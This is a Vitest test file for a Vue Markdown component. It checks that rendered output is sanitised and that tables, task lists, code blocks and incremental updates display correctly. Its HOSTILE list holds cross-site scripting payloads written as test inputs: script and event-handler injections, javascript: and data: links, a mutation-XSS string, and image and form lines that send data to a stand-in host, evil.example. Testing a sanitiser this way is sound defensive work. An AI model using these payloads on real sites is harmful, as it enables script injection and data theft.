// @vitest-environment jsdom
// DOMPurify is not safe in happy-dom, which loses elements; jsdom parses as browsers do.
import { mount } from "@vue/test-utils";
import { describe, expect, it } from "vitest";
import { nextTick } from "vue";
import { renderBlocks, safeFragment } from "./markdown";
import Markdown from "./Markdown.vue";

function drawn(source: string): HTMLElement {
  const root = document.createElement("div");
  for (const block of renderBlocks(source)) root.append(safeFragment(block));
  return root;
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<svg onload="alert(1)"><circle/></svg>',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD4=)",
  "[click](vbscript:msgbox)",
  "![pixel](https://evil.example/?q=secret)",
  "![x](javascript:alert(1))",
  '<a href="https://a.example" onclick="alert(1)">x</a>',
  "<iframe src=https://evil.example></iframe>",
  "<style>*{display:none}</style>",
  "<form action=https://evil.example><input name=a></form>",
  "```html\n<script>alert(1)</script>\n```",
  "```\"><script>alert(1)</script>\nx\n```",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "<https://a.example/\"onmouseover=alert(1)>",
];

describe("hostile Markdown", () => {
  for (const source of HOSTILE) {
    it(`does nothing: ${source.slice(0, 40).replaceAll("\n", " ")}`, () => {
      const root = drawn(source);
      expect(root.querySelectorAll("script,img,svg,iframe,style,form,input,object,embed,link,meta")).toHaveLength(0);
      for (const element of root.querySelectorAll("*")) {
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on|^style$|^src/);
          if (name === "href") expect(value).toMatch(/^(https?|mailto):/i);
        }
      }
    });
  }
  it("turns an image into a link that says what it is", () => {
    const link = drawn("![a chart](https://x.example/c.png)").querySelector("a");
    expect(link?.textContent).toBe("a chart");
    expect(link?.rel).toContain("noreferrer");
  });
  it("lets the keyboard into a wide table, and keeps the number that a list starts with", () => {
    expect(drawn("| x |\n|---|\n| 1 |").querySelector(".table-scroll")?.getAttribute("tabindex")).toBe("0");
    expect(drawn("3. c\n4. d").querySelector("ol")?.getAttribute("start")).toBe("3");
  });
  it("keeps the side of a table's column, and draws the boxes of a task list as signs", () => {
    const cells = drawn("| a | b | c |\n|---|--:|:-:|\n| 1 | 2 | 3 |").querySelectorAll("td");
    expect([...cells].map(({ className }) => className)).toEqual(["", "to-right", "to-center"]);
    const items = drawn("- [x] done\n- [ ] open\n- [link]\n").querySelectorAll("li");
    expect([...items].map((item) => [item.className, item.textContent?.trim()])).toEqual([["task", "☑ done"], ["task", "☐ open"], ["", "[link]"]]);
  });
  it("is fast on text that nests without end", () => {
    const before = performance.now();
    drawn("> ".repeat(3_000) + "x");
    drawn("[".repeat(20_000));
    drawn("*".repeat(20_000) + "a");
    expect(performance.now() - before).toBeLessThan(3_000);
  });
});

describe("Markdown on the screen", () => {
  it("shows tables, lists and code with its language and a button to copy it", async () => {
    const wrapper = mount(Markdown, { props: { source: "# T\n\n- a\n- b\n\n| x |\n|---|\n| 1 |\n\n```python\nprint(1)\n```" } });
    expect(wrapper.find("h1").text()).toBe("T");
    expect(wrapper.findAll("li")).toHaveLength(2);
    expect(wrapper.find(".table-scroll table td").text()).toBe("1");
    expect(wrapper.find(".code-block header span").text()).toBe("python");
    expect(wrapper.find(".code-block code").text()).toBe("print(1)");
    wrapper.unmount();
  });
  it("keeps the blocks that did not change while a text grows", async () => {
    const wrapper = mount(Markdown, { props: { source: "first\n\nsec" } });
    const [first, second] = [...wrapper.element.children];
    await wrapper.setProps({ source: "first\n\nsecond\n\nthird" });
    await nextTick();
    expect(wrapper.element.children[0]).toBe(first);
    expect(wrapper.element.children[1]).not.toBe(second);
    expect(wrapper.element.children).toHaveLength(3);
    await wrapper.setProps({ source: "other" });
    expect(wrapper.text()).toBe("other");
    expect(wrapper.element.children).toHaveLength(1);
    wrapper.unmount();
  });
});
